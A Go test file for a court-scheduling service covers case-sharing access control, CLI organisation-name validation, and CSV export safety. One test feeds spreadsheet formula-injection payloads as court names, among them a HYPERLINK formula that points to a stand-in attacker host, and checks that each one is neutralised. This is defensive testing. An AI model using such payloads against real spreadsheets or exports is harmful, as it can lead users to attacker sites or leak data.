package main_test

import (
	"encoding/csv"
	"fmt"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"
)

// TestEndToEnd_CoordinatorCannotAttachToUnsharedCase, against the real binary: a coordinator
// who links its victim to another office's case it was not given gets NOT_FOUND, exactly as
// for a case that does not exist, and nothing is written; it sees neither the case nor its
// hearing. Once the office shares the case the link works and the hearing is visible; when
// the office withdraws the share the organisation loses the docket again.
func TestEndToEnd_CoordinatorCannotAttachToUnsharedCase(t *testing.T) {
	w := newWorld(t)
	s := startServer(t, w.db)
	court := mustGQL(t, s.url, w.admin, `mutation { createCourt(input: {name: "Main Courthouse", timeZone: "America/New_York"}) { id } }`, nil)
	kase := mustGQL(t, s.url, w.prosecutor, `mutation($c: ID!) { openCase(input: {docket: "26-CR-07001", courtId: $c}) { id } }`,
		map[string]any{"c": dig(court, "createCourt", "id")})
	caseID := dig(kase, "openCase", "id").(string)
	starts := time.Now().UTC().Add(15 * 24 * time.Hour).Truncate(time.Hour)
	h := mustGQL(t, s.url, w.prosecutor, postHearing, map[string]any{"in": map[string]any{"caseId": caseID, "kind": "TRIAL",
		"startsAt": starts.Format(time.RFC3339), "endsAt": starts.Add(2 * time.Hour).Format(time.RFC3339), "courtroom": "12A"}})
	hearingID := dig(h, "postHearing", "id").(string)
	v := mustGQL(t, s.url, w.coordinator, `mutation { registerVictim(input: {pseudonym: "V-7001", preferredLanguage: "es"}) { id } }`, nil)
	victimID := dig(v, "registerVictim", "id").(string)

	db, err := openRaw(t, w.db, "file:"+w.db+"?mode=ro")
	if err != nil {
		t.Fatal(err)
	}
	defer db.Close()
	written := func() string {
		t.Helper()
		var links, audits int
		if err := db.QueryRow(`SELECT (SELECT COUNT(*) FROM case_victims), (SELECT COUNT(*) FROM audit_log WHERE action = 'case.link_victim')`).Scan(&links, &audits); err != nil {
			t.Fatal(err)
		}
		return fmt.Sprintf("%d links, %d link audit rows", links, audits)
	}

	const link = `mutation($c: ID!, $v: ID!) { linkVictim(caseId: $c, victimId: $v, attends: true) { id docket } }`
	data, unshared := gql(t, s.url, w.coordinator, link, map[string]any{"c": caseID, "v": victimID})
	_, missing := gql(t, s.url, w.coordinator, link, map[string]any{"c": "9999", "v": victimID})
	if len(unshared) != 1 || dig(unshared[0], "extensions", "code") != "NOT_FOUND" || data["linkVictim"] != nil {
		t.Fatalf("link to an unshared case: %v %v", data, unshared)
	}
	if len(missing) != 1 || unshared[0]["message"] != missing[0]["message"] {
		t.Fatalf("an unshared case answers %v, a missing one %v", unshared, missing)
	}
	if got := written(); got != "0 links, 0 link audit rows" {
		t.Fatalf("the refused link wrote %s", got)
	}
	if _, errs := gql(t, s.url, w.coordinator, `query($id: ID!) { case(id: $id) { docket } }`, map[string]any{"id": caseID}); len(errs) == 0 ||
		dig(errs[0], "extensions", "code") != "NOT_FOUND" {
		t.Fatalf("the coordinator reads the unshared case: %v", errs)
	}
	if _, errs := gql(t, s.url, w.coordinator, `query($id: ID!) { hearing(id: $id) { startsAt courtroom } }`, map[string]any{"id": hearingID}); len(errs) == 0 ||
		dig(errs[0], "extensions", "code") != "NOT_FOUND" {
		t.Fatalf("the coordinator reads the unshared case's hearing: %v", errs)
	}

	shareCase(t, s.url, w.prosecutor, caseID, "Harbor Advocacy")
	linked := mustGQL(t, s.url, w.coordinator, link, map[string]any{"c": caseID, "v": victimID})
	if dig(linked, "linkVictim", "docket") != "26-CR-07001" || written() != "1 links, 1 link audit rows" {
		t.Fatalf("link after the share: %v, %s", linked, written())
	}
	seen := mustGQL(t, s.url, w.coordinator, `query($id: ID!) { hearing(id: $id) { courtroom } }`, map[string]any{"id": hearingID})
	if dig(seen, "hearing", "courtroom") != "12A" {
		t.Fatalf("the coordinator's hearing after the share: %v", seen)
	}
	// The office counts the linked victim but, without the victim's release, sees no pseudonym.
	office := mustGQL(t, s.url, w.prosecutor, `query($id: ID!) { case(id: $id) { victimCount victims { victim { pseudonym } } } }`, map[string]any{"id": caseID})
	if dig(office, "case", "victimCount") != float64(1) || len(dig(office, "case", "victims").([]any)) != 0 {
		t.Fatalf("the office without a release: %v", office)
	}

	mustGQL(t, s.url, w.prosecutor, `mutation($c: ID!) { unshareCase(caseId: $c, organisation: "Harbor Advocacy") { id } }`, map[string]any{"c": caseID})
	if _, errs := gql(t, s.url, w.coordinator, `query($id: ID!) { hearing(id: $id) { startsAt } }`, map[string]any{"id": hearingID}); len(errs) == 0 ||
		dig(errs[0], "extensions", "code") != "NOT_FOUND" {
		t.Fatalf("the coordinator reads the hearing after the withdrawal: %v", errs)
	}
	if got := written(); !strings.HasPrefix(got, "0 links") {
		t.Fatalf("after the withdrawal: %s", got)
	}
}

// TestCLI_OrganisationKindsAndNames: `courtside user add --org` announces a new organisation
// and its kind, refuses a coordinator in a prosecutor's office naming --org and the kind, and
// refuses a near-duplicate of an existing organisation's name, naming it, without creating
// anything.
func TestCLI_OrganisationKindsAndNames(t *testing.T) {
	db := filepath.Join(t.TempDir(), "courtside.db")
	cli(t, "", "init", "--db", db)
	_, code, stderr := cliResult(t, "", "user", "add", "--db", db, "--username", "pros", "--role", "prosecutor", "--org", "County DA")
	if code != 0 || !strings.Contains(stderr, `created organisation "County DA", a prosecutor's office (PROSECUTION)`) {
		t.Fatalf("first member: exit %d %q", code, stderr)
	}
	_, code, stderr = cliResult(t, "", "user", "add", "--db", db, "--username", "pros2", "--role", "prosecutor", "--org", "County DA")
	if code != 0 || strings.Contains(stderr, "created organisation") {
		t.Fatalf("second member: exit %d %q", code, stderr)
	}
	for _, tt := range []struct {
		args []string
		want []string
	}{
		{[]string{"--username", "coord", "--role", "coordinator", "--org", "County DA"}, []string{"--org", "County DA", "PROSECUTION", "ADVOCACY"}},
		{[]string{"--username", "pros3", "--role", "prosecutor", "--org", "county da"}, []string{"--org", `"County DA"`}},
		{[]string{"--username", "pros3", "--role", "prosecutor", "--org", "County D.A."}, []string{"--org", `"County DA"`}},
		{[]string{"--username", "pros3", "--role", "prosecutor", "--org", "Couny DA"}, []string{"--org", `"County DA"`}},
		{[]string{"--username", "admin", "--role", "admin", "--org", "County DA"}, []string{"--org", "administrator"}},
		{[]string{"--username", "interp", "--role", "interpreter", "--phone", "Snarkwhistle-555-PHONE"}, []string{"--phone", "E.164"}},
		{[]string{"--username", "interp", "--role", "interpreter", "--email", "snark@@whistle"}, []string{"--email", "exactly one @"}},
	} {
		_, code, stderr := cliResult(t, "", append([]string{"user", "add", "--db", db}, tt.args...)...)
		if code != 2 {
			t.Errorf("%v: exit %d %q", tt.args, code, stderr)
		}
		for _, w := range tt.want {
			if !strings.Contains(stderr, w) {
				t.Errorf("%v: %q does not name %s", tt.args, stderr, w)
			}
		}
	}
	_, code, stderr = cliResult(t, "", "user", "add", "--db", db, "--username", "coord", "--role", "coordinator", "--org", "Harbor Advocacy")
	if code != 0 || !strings.Contains(stderr, `created organisation "Harbor Advocacy", an advocacy organisation (ADVOCACY)`) {
		t.Fatalf("a new advocacy organisation: exit %d %q", code, stderr)
	}
	conn, err := openRaw(t, db, "file:"+db+"?mode=ro")
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	var orgs, users int
	conn.QueryRow(`SELECT (SELECT COUNT(*) FROM organizations), (SELECT COUNT(*) FROM users)`).Scan(&orgs, &users)
	if orgs != 2 || users != 3 {
		t.Fatalf("%d organisations and %d users, want 2 and 3", orgs, users)
	}
}

// TestReport_CellsNeutralisedForSpreadsheets: a court named like a spreadsheet formula reaches
// the caseload CSV as text: the cell gets a leading apostrophe, so Excel, LibreOffice and
// Google Sheets show it instead of evaluating it.
func TestReport_CellsNeutralisedForSpreadsheets(t *testing.T) {
	w := newWorld(t)
	s := startServer(t, w.db)
	names := []string{`=HYPERLINK("http://attacker.example/?x","Open")`, "+1+1", "-2+3 Courthouse", "@SUM(A1:A9)", "Plain Courthouse"}
	starts := time.Now().UTC().Add(20 * 24 * time.Hour).Truncate(time.Hour)
	v := mustGQL(t, s.url, w.coordinator, `mutation { registerVictim(input: {pseudonym: "V-CSV", preferredLanguage: "es"}) { id } }`, nil)
	victimID := dig(v, "registerVictim", "id").(string)
	for i, name := range names {
		court := mustGQL(t, s.url, w.admin, `mutation($n: String!) { createCourt(input: {name: $n, timeZone: "America/New_York"}) { id } }`, map[string]any{"n": name})
		kase := mustGQL(t, s.url, w.prosecutor, `mutation($c: ID!, $d: String!) { openCase(input: {docket: $d, courtId: $c}) { id } }`,
			map[string]any{"c": dig(court, "createCourt", "id"), "d": fmt.Sprintf("26-CR-0%d", i)})
		caseID := dig(kase, "openCase", "id").(string)
		at := starts.Add(time.Duration(i) * 24 * time.Hour)
		mustGQL(t, s.url, w.prosecutor, postHearing, map[string]any{"in": map[string]any{"caseId": caseID, "kind": "MOTION",
			"startsAt": at.Format(time.RFC3339), "endsAt": at.Add(time.Hour).Format(time.RFC3339)}})
		shareCase(t, s.url, w.prosecutor, caseID, "Harbor Advocacy")
		mustGQL(t, s.url, w.coordinator, `mutation($c: ID!, $v: ID!) { linkVictim(caseId: $c, victimId: $v, attends: true) { id } }`,
			map[string]any{"c": caseID, "v": victimID})
	}
	if err := s.cmd.Process.Signal(syscall.SIGTERM); err != nil {
		t.Fatal(err)
	}
	s.cmd.Wait()
	out := cli(t, "", "report", "--db", w.db, "--org", "Harbor Advocacy", "--from", starts.Add(-24*time.Hour).Format(time.DateOnly),
		"--to", starts.Add(10*24*time.Hour).Format(time.DateOnly))
	recs, err := csv.NewReader(strings.NewReader(out)).ReadAll()
	if err != nil || len(recs) != len(names)+1 {
		t.Fatalf("report: %v\n%s", err, out)
	}
	cells := map[string]bool{}
	for _, r := range recs[1:] {
		cells[r[1]] = true
		if c := r[1][0]; c == '=' || c == '+' || c == '-' || c == '@' || c == '\t' || c == '\r' {
			t.Errorf("court cell %q starts a formula", r[1])
		}
	}
	for _, name := range names {
		want := name
		if name != "Plain Courthouse" {
			want = "'" + name
		}
		if !cells[want] {
			t.Errorf("no cell %q in\n%s", want, out)
		}
	}
}
